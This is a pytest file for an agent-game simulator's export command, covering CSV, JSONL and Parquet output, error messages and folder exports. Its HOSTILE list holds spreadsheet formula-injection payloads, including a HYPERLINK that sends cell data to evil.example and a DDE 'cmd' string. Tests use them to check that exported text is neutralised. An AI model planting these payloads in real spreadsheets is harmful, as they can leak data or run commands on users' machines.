"""`agentsim export`: the tables of a run or a folder as files, with any text in the game."""

from __future__ import annotations

import csv
import io
import json
import shutil
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agentsim.records.journal import Journal
from agentsim.records.run_files import RunFiles
from agentsim.records.tables import BASE
from tests.cli.command_line import TRIO, agentsim, snapshot, trio

TABLES = ["events", "decisions", "standings", "usage", "pairs", "survey", "beliefs", "votes", "tallies"]
FILLED = [table for table in TABLES if table not in {"survey", "beliefs"}]  # these runs have no interviews
VOTES = ["round", "final", "voter", "choice", "explanation", "ballot", "position", "voter_model", "choice_model"]
SCORES = ["score_rounds_survived", "score_votes_against", "score_jury_votes"]
LEADING = ["run", "game", "seed", "status"]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+1",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "\0=1",
]


def history(path: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(path.read_text(encoding="utf-8"))
    return loaded


def rewrite(path: Path, change: Callable[[dict[str, Any]], None]) -> None:
    """Rewrite a history, as another person may pass it on."""
    loaded = history(path)
    change(loaded)
    path.write_text(json.dumps(loaded), encoding="utf-8")


def read_csv(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_bytes().decode(), newline="")))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def events(loaded: dict[str, Any]) -> list[dict[str, Any]]:
    return [event for part in loaded["rounds"] for event in part["events"]]


# --------------------------------------------------------------------------- one run


@pytest.mark.parametrize("words", [(), ("--format", "csv"), ("--format", "jsonl"), ("--format", "parquet")], ids=repr)
def test_a_runs_tables_go_beside_it_and_are_named(words: tuple[str, ...], project: Path) -> None:
    ending = words[1] if words else "csv"
    before = snapshot(project)
    said = agentsim("export", "done", *words, cwd=project)
    paths = [f"logs/done.{table}.{ending}" for table in TABLES]
    assert (said.code, said.err, said.out.splitlines()) == (0, "", paths)
    after = snapshot(project)
    assert {path: after[path] for path in before} == before
    assert set(after) - set(before) == set(paths)
    assert agentsim("export", "done.json", *words, cwd=project).out == said.out
    assert snapshot(project) == after, "an export replaces an export, byte for byte the same"


def test_csv_has_the_columns_that_are_promised_and_every_row(project: Path) -> None:
    agentsim("export", "done", cwd=project)
    loaded = history(project / "logs" / "done.json")
    rows = {table: read_csv(project / "logs" / f"done.{table}.csv") for table in FILLED}
    assert {table: list(rows[table][0]) for table in FILLED} == {
        **{table: list(BASE[table]) for table in FILLED[:5]},
        "standings": [*BASE["standings"], *SCORES],
        "votes": VOTES,
        "tallies": ["round", "final", "candidate", "votes", "chosen", "tied", "candidate_model"],
    }
    assert [row["content"] for row in rows["events"]] == [event["content"] for event in events(loaded)]
    assert [json.loads(row["data"]) for row in rows["events"]] == [event["data"] for event in events(loaded)]
    assert [json.loads(row["decision"]) for row in rows["decisions"]] == [
        decision["decision"] for decision in loaded["decisions"]
    ]
    assert {row["cost_usd"] for row in rows["decisions"]} == {""}
    assert [(row["player"], row["rank"], row["winner"]) for row in rows["standings"]] == [
        (place["player"], str(place["rank"]), str(place["player"] == loaded["outcome"]["winner"]))
        for place in loaded["outcome"]["standings"]
    ]
    assert [row["player"] for row in rows["usage"]] == ["A", "B", "C"]
    assert len(rows["votes"]) == len([event for event in events(loaded) if event["kind"] == "vote"])


def test_jsonl_and_parquet_say_the_same_as_csv(project: Path) -> None:
    from pyarrow import parquet

    for file_format in ("csv", "jsonl", "parquet"):
        agentsim("export", "done", "--format", file_format, cwd=project)
    for table in TABLES:
        path = project / "logs" / f"done.{table}"
        as_csv, as_jsonl = read_csv(path.with_suffix(f".{table}.csv")), read_jsonl(path.with_suffix(f".{table}.jsonl"))
        as_parquet = parquet.read_table(path.with_suffix(f".{table}.parquet")).to_pylist()
        for one, two, three in zip(as_csv, as_jsonl, as_parquet, strict=True):
            assert list(one) == list(two) == list(three)
            for name, text in one.items():
                assert text == ("" if three[name] is None else str(three[name]))
                real = two[name]
                assert three[name] == (json.dumps(real, ensure_ascii=False) if isinstance(real, dict | list) else real)


@pytest.mark.parametrize("words", HOSTILE, ids=repr)
def test_no_words_of_a_player_become_a_formula(words: str, project: Path) -> None:
    def says(loaded: dict[str, Any]) -> None:
        for event in events(loaded):
            if event["kind"] in {"pitch", "vote"}:
                event["content"] = words

    rewrite(project / "logs" / "done.json", says)
    assert agentsim("export", "done", cwd=project).code == 0
    assert agentsim("export", "done", "--format", "jsonl", cwd=project).code == 0
    said = [row["content"] for row in read_csv(project / "logs" / "done.events.csv") if row["kind"] == "pitch"]
    why = [row["explanation"] for row in read_csv(project / "logs" / "done.votes.csv")]
    assert {*said, *why} == {"'" + words.replace("\0", "\ufffd")}
    assert {row["explanation"] for row in read_jsonl(project / "logs" / "done.votes.jsonl")} == {words}


def test_hostile_words_pass_through_a_whole_game(tmp_path: Path) -> None:
    """This is about texts of models in a whole game, not in a changed history alone."""
    for_b, for_c = (f'{{"vote": "{player}", "explanation": "@SUM(A1)"}}' for player in "BC")
    replies = {"pitch": ['=HYPERLINK("http://evil.example")'] * 2, "vote": [[for_b, for_c]] * 2}
    (tmp_path / "loud.json").write_text(json.dumps(replies), encoding="utf-8")
    trio(tmp_path, TRIO.replace("bot/random", "script:loud.json"))
    played = agentsim("run", "--config", "trio.toml", "--name", "loud", "--display", "none", cwd=tmp_path)
    assert played.code == 0, played.err
    agentsim("export", "loud", cwd=tmp_path)
    said = [row["content"] for row in read_csv(tmp_path / "logs" / "loud.events.csv") if row["role"] == "player A"]
    assert [text for text in said if text.startswith("'=HYPERLINK")]
    assert [text for text in said if text.startswith("'@SUM")]
    assert not [text for text in said if text.startswith(("=", "@"))]


def test_a_run_without_an_end_has_empty_standings(project: Path) -> None:
    rewrite(project / "logs" / "done.json", lambda loaded: loaded.update(outcome=None, status="interrupted"))
    for file_format in ("csv", "jsonl"):
        assert agentsim("export", "done", "--format", file_format, cwd=project).code == 0
    assert (project / "logs" / "done.standings.csv").read_text("utf-8") == ",".join(BASE["standings"]) + "\n"
    assert (project / "logs" / "done.standings.jsonl").read_bytes() == b""


def test_logs_elsewhere(project: Path) -> None:
    (project / "logs").rename(project / "kept")
    env = {"AGENTSIM_LOGS_DIR": "kept"}
    assert agentsim("export", "done", cwd=project, env=env).out.startswith("kept/done.events.csv\n")
    assert agentsim("export", "done", "--logs-dir", "kept", cwd=project).out.startswith("kept/done.events.csv\n")


# --------------------------------------------------------------------------- what cannot be exported

MISTAKES = {
    "no such run": ("nosuch", "logs: there is no run called 'nosuch' (`agentsim runs` lists them)"),
    "no such path": ("no/such", "no/such: there is no such file or folder, neither here nor in logs"),
    "no name": ("", "'' is not the name of a run (valid: A-Z a-z 0-9 . _ -, no path)"),
    "a file": ("trio.toml", "trio.toml: is neither a run in logs nor a directory"),
    "no history yet": ("cut", "cut: has a journal but no history yet; `agentsim resume cut` ends the run"),
    "no history at all": ("torn", "logs/torn.json: is not an agentsim history: the file: Invalid JSON: EOF while"),
    "another JSON": ("list", "logs/list.json: is not an agentsim history: the file: must be an object"),
    "a folder of another version": (
        "folder",
        "folder/later.json: was written by agentsim 9.1, and that version plays it",
    ),
    "a link out of the logs": ("link", "logs/link.json: leads out of logs"),
}


@pytest.mark.parametrize(("source", "line"), MISTAKES.values(), ids=MISTAKES)
def test_a_mistake_is_one_line_and_writes_nothing(source: str, line: str, project: Path) -> None:
    before = snapshot(project)
    said = agentsim("export", source, cwd=project)
    assert (said.code, said.out) == (2, "")
    assert said.line.startswith(line)
    assert snapshot(project) == before


def test_an_unknown_format_names_those_there_are(project: Path) -> None:
    said = agentsim("export", "done", "--format", "xlsx", cwd=project)
    assert (said.code, said.line) == (
        2,
        "Invalid value for '--format': 'xlsx' is not one of 'csv', 'jsonl', 'parquet', 'chat-jsonl', 'inspect'",
    )


def test_without_pyarrow_parquet_says_what_to_install_and_writes_nothing(
    project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    before = snapshot(project)
    said = agentsim("export", "done", "--format", "parquet", cwd=project)
    assert (said.code, said.out) == (2, "")
    assert said.line == "pyarrow is not installed: `uv sync --extra data` or `pip install '.[data]'` in the checkout"
    assert snapshot(project) == before
    assert agentsim("export", "done", "--format", "csv", cwd=project).code == 0


def test_a_run_that_is_being_played_is_exported_as_it_last_stopped(project: Path) -> None:
    journal = Journal.reopen(project / "logs" / "cut.jsonl")
    try:
        said = agentsim("export", "cut", cwd=project)
        assert (said.code, said.line) == (2, "cut: is being played now; there is no history yet")
        shutil.copy(project / "logs" / "done.json", project / "logs" / "cut.json")
        said = agentsim("export", "cut", cwd=project)
        assert (said.code, said.line) == (0, "cut: is being played now; the tables show it as it last stopped")
    finally:
        journal.close()


# --------------------------------------------------------------------------- exported files and journals


def test_exported_files_are_no_runs(project: Path) -> None:
    rewrite(project / "logs" / "done.json", lambda loaded: loaded.update(outcome=None))
    listed = agentsim("runs", cwd=project).out
    for words in (
        ("done", "--format", "jsonl"),
        ("logs", "--format", "jsonl"),
        ("done",),
        ("done", "--format=parquet"),
    ):
        assert agentsim("export", *words, cwd=project).code == 0
    assert (project / "logs" / "done.standings.jsonl").read_bytes() == b"", "a table without rows is among them"
    assert agentsim("runs", cwd=project).out == listed
    for command in (("resume",), ("replay",), ("logs", "--filename"), ("export",)):
        said = agentsim(*command, "done.events", cwd=project)
        assert (said.code, said.line) == (2, "logs: there is no run called 'done.events' (`agentsim runs` lists them)")


@pytest.mark.parametrize("killed", [False, True], ids=["a run", "a run that was killed"])
def test_no_export_replaces_a_journal(killed: bool, project: Path) -> None:
    (project / "logs" / "done.jsonl").rename(project / "logs" / "done.events.jsonl")
    if not killed:
        shutil.copy(project / "logs" / "done.json", project / "logs" / "done.events.json")
    before = snapshot(project)
    said = agentsim("export", "done", "--format", "jsonl", cwd=project)
    path = "logs/done.events.jsonl"
    assert (said.code, said.out) == (2, "")
    assert said.line == f"{path}: exists and is not an exported table; it may be the journal of a run"
    assert snapshot(project) == before
    assert "\ndone.events " in agentsim("runs", cwd=project).out


def test_no_run_replaces_an_export(project: Path) -> None:
    agentsim("export", "done", "--format", "jsonl", cwd=project)
    before = snapshot(project)
    played = agentsim("run", "--config", "trio.toml", "--name", "done.events", "--display", "none", cwd=project)
    assert (played.code, played.line) == (2, "logs: there is a run called done.events already; give it another name")
    assert snapshot(project) == before


def test_an_export_without_rows_says_so(project: Path) -> None:
    said = agentsim("export", "done", "--format", "chat-jsonl", cwd=project)
    assert (said.code, said.out, said.err) == (0, "logs/done.chat.jsonl\n", "no rows in done.chat.jsonl\n")
    assert agentsim("export", "done", cwd=project).err == ""


# --------------------------------------------------------------------------- a folder


@pytest.fixture
def several(tmp_path: Path) -> Path:
    """Return a folder `lot` of three runs, two of one scenario and one with its own score, and a run that was cut."""
    trio(tmp_path)
    for number in (1, 2, 3):
        words = ("--name", f"g{number}", "--seed", str(number), "--logs-dir", "lot", "--display", "none", "--no-html")
        assert agentsim("run", "--config", "trio.toml", *words, cwd=tmp_path).code == 0
    rewrite(tmp_path / "lot" / "g3.json", lambda loaded: loaded["outcome"]["standings"][0].update(score={"luck": 0.5}))
    return tmp_path


def test_a_folders_tables_are_over_all_its_runs(several: Path) -> None:
    said = agentsim("export", "lot", cwd=several)
    assert (said.code, said.err) == (0, "")
    assert said.out.splitlines() == [f"lot/lot.{table}.csv" for table in TABLES]
    standings = read_csv(several / "lot" / "lot.standings.csv")
    assert list(standings[0]) == [*LEADING, *BASE["standings"], *SCORES, "score_luck"]
    assert [(row["run"], row["seed"]) for row in standings] == [(f"g{n}", str(n)) for n in (1, 2, 3) for _ in "ABC"]
    assert {(row["game"], row["status"]) for row in standings} == {("agent_island", "completed")}
    assert [row["score_luck"] for row in standings] == [*[""] * 6, "0.5", "", ""]
    assert standings[6]["score_jury_votes"] == ""
    for name in ("g1", "g2"):
        agentsim("export", name, "--logs-dir", "lot", cwd=several)
    for table in FILLED:
        alone = [row for name in ("g1", "g2") for row in read_csv(several / "lot" / f"{name}.{table}.csv")]
        united = [row for row in read_csv(several / "lot" / f"lot.{table}.csv") if row["run"] != "g3"]
        own = [name for name in united[0] if name not in {*LEADING, "score_luck"}]
        assert [{name: row[name] for name in own} for row in united] == alone


@pytest.mark.parametrize("file_format", ["jsonl", "parquet"])
def test_a_folder_can_be_exported_again_and_again(file_format: str, several: Path) -> None:
    words = ("export", ".", "--format", file_format)
    first = agentsim(*words, cwd=several / "lot")
    before = snapshot(several)
    assert (first.code, first.err, first.out.splitlines()) == (0, "", [f"lot.{t}.{file_format}" for t in TABLES])
    assert agentsim(*words, cwd=several / "lot") == first
    assert snapshot(several) == before


def test_a_run_of_that_name_wins_over_a_folder(project: Path) -> None:
    (project / "done").mkdir()
    assert agentsim("export", "done", cwd=project).out.startswith("logs/done.events.csv\n")
    assert agentsim("export", "done/", cwd=project).line == "done: holds no run with a readable history"


def test_runs_without_a_readable_history_are_left_out_and_named(project: Path) -> None:
    rewrite(project / "logs" / "lonely.json", lambda loaded: loaded.update(game="chess"))
    (project / "logs" / "\x1b]0;x\x07odd\nname.json").write_text("{}", encoding="utf-8")
    said = agentsim("export", "logs", cwd=project)
    assert said.code == 0
    assert {row["run"] for row in read_csv(project / "logs" / "logs.events.csv")} == {"done"}
    lines = said.err.splitlines()
    assert "\x1b" not in said.err
    named = dict(line.removeprefix("agentsim: ").split(" is left out: ", 1) for line in lines)
    assert set(named) == {"corrupt", "cut", "empty", "link", "list", "lonely", "torn", "odd name"}
    assert named["cut"] == "has a journal but no history yet; `agentsim resume cut` ends the run"
    assert named["link"] == "logs/link.json: leads out of logs"
    assert named["lonely"].startswith("game: there is no game 'chess'")


@pytest.mark.parametrize(
    "words", [("export", "logs"), ("export", "logs", "--format", "chat-jsonl"), ("bundle", "logs")]
)
def test_whoever_leaves_a_run_out_says_so_in_the_same_words(words: tuple[str, ...], project: Path) -> None:
    lines = agentsim(*words, cwd=project).err.splitlines()
    why = "has a journal but no history yet; `agentsim resume cut` ends the run"
    assert f"agentsim: cut is left out: {why}" in lines


def test_a_folder_where_nothing_can_be_read_is_a_mistake_of_one_line(project: Path) -> None:
    for name in ("done", "lonely"):
        RunFiles(project / "logs", name).history.unlink()
    said = agentsim("export", "logs", cwd=project)
    assert (said.code, said.out) == (2, "")
    assert said.line.startswith("logs: holds no run with a readable history (without one: ")
    assert said.line.endswith(" and 2 more)")


def test_a_folder_with_a_run_of_its_own_name_would_write_the_same_files_twice(project: Path) -> None:
    shutil.copy(project / "logs" / "done.json", project / "logs" / "logs.json")
    before = snapshot(project)
    said = agentsim("export", "logs/", "--logs-dir", "folder", cwd=project)
    assert said.code == 2
    assert said.err.endswith("logs/: holds a run called logs as well, whose tables have the same file names\n")
    assert snapshot(project) == before
